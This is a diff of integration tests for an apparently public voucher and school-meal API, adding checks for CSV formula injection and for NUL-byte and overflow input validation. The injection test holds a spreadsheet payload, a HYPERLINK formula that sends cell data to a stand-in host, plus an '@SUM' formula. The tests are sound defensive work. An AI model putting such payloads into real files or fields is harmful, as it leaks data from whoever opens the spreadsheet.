@@ -33,6 +33,7 @@ const shop = { role: 'merchant', sub: 'shop-1', shopId: 'shop-1' } as const;
 const otherShop = { role: 'merchant', sub: 'shop-2', shopId: 'shop-2' } as const;
 const device = { role: 'canteen-device', sub: 'dev-1', deviceId: 'dev-1', schoolId: 'school-1' } as const;
 const pedagogue = { role: 'social-pedagogue', sub: 'ped-1', schoolId: 'school-1' } as const;
+const ministry = { role: 'ministry', sub: 'min-1' } as const;
 
 const citizenOf = (familyId: string, iin: string) => ({ role: 'citizen', sub: `c-${familyId}`, familyId, personId: t.system.vault.pseudonymise(iin) }) as const;
 
@@ -320,8 +321,51 @@ describe('a pupil’s school-meal path', () => {
   });
 });
 
+describe('text that a spreadsheet would run, in the files people open', () => {
+  // A name or a region that starts with = + - @ is a formula to Excel: the CSVs show it as text.
+  const hostilePupil = makeIin('2019-01-02', 'female', 21);
+  const hostileMother = makeIin('1990-03-04', 'female', 22);
+  const NAME = '=HYPERLINK("http://x.example/?"&A1,"open")';
+  const REGION = '@SUM(1+1)';
+
+  it('neutralises them in the табель and outcomes CSVs, and escapes them in the HTML', async () => {
+    t.clock.set('2026-04-06T07:00:00.000Z');
+    const csv =
+      'familyId,pupilIin,pupilName,grade,category,approvedByHead,representativeRole,representativeIin,representativeName\n' +
+      `fam-X,${hostilePupil},"${NAME.replace(/"/g, '""')}",1,asp_family,true,mother,${hostileMother},-2+3\n`;
+    const list = await t.call('POST', `/v1/lists/school-meals?listId=nobd-school-7-2026-04&month=2026-04&schoolYear=2025-2026&schoolId=school-7&region=${encodeURIComponent(REGION)}`, {
+      token: await t.token(nobd),
+      raw: csv,
+      contentType: 'text/csv',
+    });
+    expect(list.body).toMatchObject({ accepted: 1 });
+    await t.settle();
+    const parent = await t.token(citizenOf('fam-X', hostileMother));
+    const voucher = (await t.call('GET', '/v1/me/vouchers', { token: parent })).body.vouchers.find((v: { program: string }) => v.program === 'school-meals');
+    expect((await t.call('POST', `/v1/me/vouchers/${encodeURIComponent(voucher.voucherId)}/activate`, { token: parent })).status).toBe(200);
+    const canteen = await t.token({ role: 'canteen-device', sub: 'dev-7', deviceId: 'dev-7', schoolId: 'school-7' });
+    const meal = await t.call('POST', '/v1/canteen/batches', { token: canteen, body: { batchId: 'b-7', records: [{ seq: 1, cardIin: hostilePupil, scannedAt: '2026-04-06T07:00:10Z' }] } });
+    expect(meal.body.results[0].outcome).toBe('meal_recorded');
+    await t.settle();
+    const pedagogue7 = await t.token({ role: 'social-pedagogue', sub: 'ped-7', schoolId: 'school-7' });
+    const sheet = await t.call('GET', '/v1/schools/school-7/tabel/2026-04?format=csv', { token: pedagogue7 });
+    expect(sheet.text).toContain(`"'${NAME.replace(/"/g, '""')}"`);
+    expect(sheet.text).not.toMatch(/(^|,)=HYPERLINK/m);
+    const html = await t.call('GET', '/v1/schools/school-7/tabel/2026-04?format=html', { token: pedagogue7 });
+    expect(html.text).toContain('=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;open&quot;)');
+    const outcomes = await t.call('GET', '/v1/ministry/outcomes?program=school-meals&month=2026-04&format=csv', { token: await t.token(ministry) });
+    expect(outcomes.text).toContain(`"'${REGION}"`);
+    expect(outcomes.text).not.toMatch(/(^|,)@SUM/m);
+  });
+});
+
 describe('bad input answers problem+json and appends nothing', () => {
-  const cases: [string, string, string, Record<string, unknown>, number, string][] = [
+  const basketLine = (unitPriceTiyn: number) => ({ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn });
+  const foodRow = (city: string) => ({ familyId: 'f', city, aspOnDate: '2026-02-28', head: { iin: head }, members: [{ iin: head }] });
+  const MEALS_CSV_QUERY = 'listId=L-nul&month=2026-04&schoolYear=2025-2026&schoolId=school-1';
+  const MEALS_CSV_HEADER = 'familyId,pupilIin,pupilName,grade,category,approvedByHead';
+  /** [name, method, path, options, status, code, the field the problem must name] */
+  const cases: [string, string, string, Record<string, unknown>, number, string, string?][] = [
     ['malformed JSON', 'POST', '/v1/shop/holds', { raw: '{"token":', contentType: 'application/json', idempotencyKey: 'bad-1' }, 400, 'malformed_json'],
     ['wrong types', 'POST', '/v1/shop/holds', { body: { token: 5, items: 'milk' }, idempotencyKey: 'bad-2' }, 400, 'validation_failed'],
     ['negative amount', 'POST', '/v1/shop/holds', { body: { token: 't', items: [{ sku: 'a', name: 'a', quantity: 1, unit: 'pcs', unitPriceTiyn: -1 }] }, idempotencyKey: 'bad-3' }, 400, 'validation_failed'],
@@ -340,26 +384,44 @@ describe('bad input answers problem+json and appends nothing', () => {
     ['instant without zone', 'POST', '/v1/sms/inbound', { body: { phone: '+77010000001', text: '21*1', receivedAt: '2026-03-05 05:00' } }, 400, 'validation_failed'],
     ['unknown field', 'POST', '/v1/sms/inbound', { body: { phone: '+77010000001', text: '21*1', receivedAt: '2026-03-05T05:00:00Z', iin: '900101300123' } }, 400, 'validation_failed'],
     ['bad month', 'GET', '/v1/schools/school-1/tabel/2026-13', {}, 400, 'validation_failed'],
+    // A NUL character cannot be stored by Postgres: every field and query parameter refuses it by name.
+    ['NUL in a list row’s city', 'POST', '/v1/lists/food-vouchers', { body: { listId: 'nul-1', month: '2026-03', rows: [foodRow('Kok\u0000shetau')] } }, 400, 'validation_failed', 'body.rows.0.city'],
+    ['NUL in a name', 'POST', '/v1/lists/food-vouchers', { body: { listId: 'nul-2', month: '2026-03', rows: [{ ...foodRow('Kokshetau'), head: { iin: head, fullName: 'Ай\u0000' } }] } }, 400, 'validation_failed', 'body.rows.0.head.fullName'],
+    ['NUL in a query parameter', 'POST', `/v1/lists/school-meals?${MEALS_CSV_QUERY}&region=Ak%00mola`, { raw: `${MEALS_CSV_HEADER}\nfam-1,${pupil},,3,asp_family,true\n`, contentType: 'text/csv' }, 400, 'validation_failed', 'query.region'],
+    ['NUL in a CSV cell', 'POST', `/v1/lists/school-meals?${MEALS_CSV_QUERY}&region=Akmola`, { raw: `${MEALS_CSV_HEADER},reconciliationOk,reconciliationReason\nfam-1,${pupil},,3,asp_family,true,false,no\u0000pe\n`, contentType: 'text/csv' }, 400, 'validation_failed', 'body.rows.0.reconciliation.reason'],
+    ['NUL in a query parameter of a read', 'GET', '/v1/ministry/outcomes?city=Pav%00lodar', {}, 400, 'validation_failed', 'query.city'],
+    ['NUL in a QR token at the till', 'POST', '/v1/shop/balance', { body: { token: 'abc\u0000def' } }, 400, 'validation_failed', 'body.token'],
+    ['NUL in a QR token at the canteen', 'POST', '/v1/canteen/batches', { body: { batchId: 'b', records: [{ seq: 1, token: 'a\u0000b', scannedAt: '2026-04-06T06:00:00Z' }] } }, 400, 'validation_failed', 'body.records.0.token'],
+    ['NUL in a delivery report', 'POST', '/v1/sms/outbound/m-1/delivery', { body: { status: 'failed', at: '2026-03-05T04:00:05Z', reason: 'no\u0000route', gatewayRef: 'g\u0000' } }, 400, 'validation_failed', 'body.reason'],
+    ['lone surrogate in a city', 'POST', '/v1/lists/food-vouchers', { raw: `{"listId":"nul-3","month":"2026-03","rows":[{"familyId":"f","city":"\\udc00","aspOnDate":"2026-02-28","head":{"iin":"${head}"},"members":[{"iin":"${head}"}]}]}`, contentType: 'application/json' }, 400, 'validation_failed', 'body.rows.0.city'],
+    // Two lines at 5e15 tiyn would sum past 2^53: unit prices are bounded so that no basket can.
+    ['basket summing past safe integers', 'POST', '/v1/shop/holds', { body: { token: 't', items: [basketLine(5e15), basketLine(5e15)] }, idempotencyKey: 'bad-sum' }, 400, 'validation_failed', 'body.items.0.unitPriceTiyn'],
+    ['CSV with a duplicated column', 'POST', '/v1/lists/food-vouchers?listId=dup-1&month=2026-03', { raw: `familyId,city,aspOnDate,memberRole,iin,city\nf,Kokshetau,2026-02-28,head,${head},Almaty\n`, contentType: 'text/csv' }, 400, 'validation_failed', 'body.city'],
   ];
   const roleFor = (path: string) =>
     path.startsWith('/v1/shop')
       ? shop
       : path.startsWith('/v1/me')
         ? citizenOf('fam-A', head)
-        : path.startsWith('/v1/lists')
+        : path.startsWith('/v1/lists/school-meals')
+          ? nobd
+          : path.startsWith('/v1/lists')
           ? sdu
           : path.startsWith('/v1/canteen')
             ? device
             : path.startsWith('/v1/sms')
               ? gateway
-              : pedagogue;
+              : path.startsWith('/v1/ministry')
+                ? ministry
+                : pedagogue;
 
-  it.each(cases)('%s: %s %s', async (_name, method, path, options, status, code) => {
+  it.each(cases)('%s: %s %s', async (_name, method, path, options, status, code, field) => {
     const before = await t.eventCount();
     const answer = await t.call(method, path, { token: await t.token(roleFor(path)), ...options });
     expect(answer.status).toBe(status);
     expect(answer.contentType).toMatch(/^application\/problem\+json/);
     expect(answer.body.code).toBe(code);
+    if (field) expect(answer.body.errors?.map((e: { path: string }) => e.path)).toContain(field);
     expect(answer.text).not.toMatch(/900101300123|90010130012|\bat .*\.ts/);
     expect(await t.eventCount()).toBe(before);
   });
